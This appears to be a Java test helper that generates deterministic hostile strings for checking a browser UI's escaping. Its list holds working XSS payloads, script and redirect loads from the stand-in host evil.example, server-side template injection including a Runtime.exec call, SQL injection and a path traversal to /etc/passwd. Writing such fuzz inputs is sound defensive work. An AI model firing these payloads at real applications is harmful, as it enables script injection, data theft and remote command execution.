package ru.targetsms.browser;

import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Makes texts that would like to be more than text. The same seed makes the same texts. */
final class HostileTexts {

    /** What a script does that got its way: the page then complains, see {@link #TRAP}. */
    private static final String STRIKE = "window.__pwned=1";

    /** Makes a page say loudly that a script of theirs has run. */
    static final String TRAP =
            "Object.defineProperty(window, '__pwned', { set() { console.error('a hostile text ran') } })";

    private static final List<String> SEEDS = List.of(
            "<script>" + STRIKE + "</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=" + STRIKE + ">",
            "<img/src='http://evil.example/pixel.gif'/onload=\"" + STRIKE + "\">",
            "<svg onload=" + STRIKE + "><animate onbegin=" + STRIKE + " attributeName=x dur=1s>",
            "<svg><script href=\"data:text/javascript," + STRIKE + "\"/></svg>",
            "\" autofocus onfocus=" + STRIKE + " x=\"",
            "' onmouseover='" + STRIKE + "' x='",
            "` onclick=" + STRIKE + " `",
            "</textarea><script>" + STRIKE + "</script>",
            "</title></style></noscript></template><script>" + STRIKE + "</script>",
            "</pre></code></span></a></li><script>" + STRIKE + "</script>",
            "]]><script>" + STRIKE + "</script><![CDATA[",
            "--><script>" + STRIKE + "</script><!--",
            "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
            "<base href=\"http://evil.example/\">",
            "<link rel=stylesheet href=http://evil.example/x.css>",
            "<style>*{background:url(http://evil.example/css)}</style>",
            "<iframe src=\"javascript:" + STRIKE + "\"></iframe>",
            "<iframe srcdoc=\"<script>parent." + STRIKE + "</script>\">",
            "<object data=http://evil.example/o></object><embed src=//evil.example/e>",
            "<form action=http://evil.example/><button>Delete</button><input name=back value=//evil.example>",
            "<a href=\"javascript:" + STRIKE + "\" id=\"messages\">inbox</a>",
            "<div hx-get=\"/\" hx-trigger=\"load\" hx-on::load=\"" + STRIKE
                    + "\" sse-connect=\"http://evil.example/\">",
            "<body onload=" + STRIKE + " id=main><main id=main>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=" + STRIKE + ">",
            "<details open ontoggle=" + STRIKE + "><video><source onerror=" + STRIKE + ">",
            "javascript:" + STRIKE,
            "JaVaScRiPt:" + STRIKE,
            "data:text/html,<script>" + STRIKE + "</script>",
            "http://evil.example/\"onclick=\"" + STRIKE,
            "//evil.example/x.js",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${7*191}",
            "*{7*191}",
            "#{common.brand}",
            "@{http://evil.example/}",
            "~{layout :: page}",
            "[[${7*191}]]",
            "[(${7*191})]",
            "__${7*191}__::.x",
            "|${7*191}|",
            "{{7*191}}",
            "<%= 7*191 %>",
            "#set($x=7*191)$x",
            "<th:block th:utext=\"${7*191}\"/>",
            "%{(#_='multipart/form-data')}",
            "&lt;script&gt;" + STRIKE + "&lt;/script&gt;",
            "&#60;script&#62;&amp;amp;&quot;&apos;&nbsp;&notanentity;&#x3c;",
            "%3Cscript%3E" + STRIKE + "%3C/script%3E",
            "{0} {1,choice,0#a|1<b} ''{2}'' '{",
            "\u202Etxet desrever\u202C \u2066isolated\u2069 \u200Fright\u200E left",
            "zero\u200Bwidth\u200Djoiner\u2060\uFEFF end",
            "مرحبا بالعالم שלום עולם",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66\uD83C\uDDF7\uD83C\uDDFA\uD83D\uDE00\uD83D\uDC4D\uD83C\uDFFD",
            "Z\u0351\u036B\u0343\u0368a\u0310\u0315l\u0327\u0328g\u0301\u0308o\u0300\u0301\u0302\u0303\u0304\u0305\u0306",
            "\u0080\u0081\u009F\u00A0\u00AD\u2028x".replace("\u2028", ""),
            "\uFFFD\uFFFC\uE000\uF8FF\uFDFA",
            "a\tb  c   d",
            "Донаудампфшиффартсгезельшафтскапитэн".repeat(6),
            "W".repeat(300),
            "'; DROP TABLE messages; --",
            "../../../etc/passwd\\..\\..\\x\\0",
            "\\u003cscript\\u003e" + STRIKE,
            "*/" + STRIKE + "/*",
            ":has(*) { display: none } #main { visibility: hidden }",
            "data: messages");

    private HostileTexts() {}

    /** Makes so many texts, all different: each seed by itself first, then mixtures. */
    static List<String> of(long seed, int count) {
        Random random = new Random(seed);
        return Stream.concat(SEEDS.stream(), Stream.generate(() -> mixture(random)))
                .distinct()
                .limit(count)
                .toList();
    }

    private static String mixture(Random random) {
        StringBuilder text = new StringBuilder();
        for (int piece = random.nextInt(3); piece >= 0; piece--) {
            String seed = SEEDS.get(random.nextInt(SEEDS.size()));
            int from = random.nextInt(4) == 0
                    ? seed.offsetByCodePoints(0, random.nextInt(seed.codePointCount(0, seed.length())))
                    : 0;
            text.append(seed, from, seed.length()).append("<>\"'&`=/ {}$".charAt(random.nextInt(12)));
        }
        return text.append(random.nextInt(1000)).toString();
    }
}
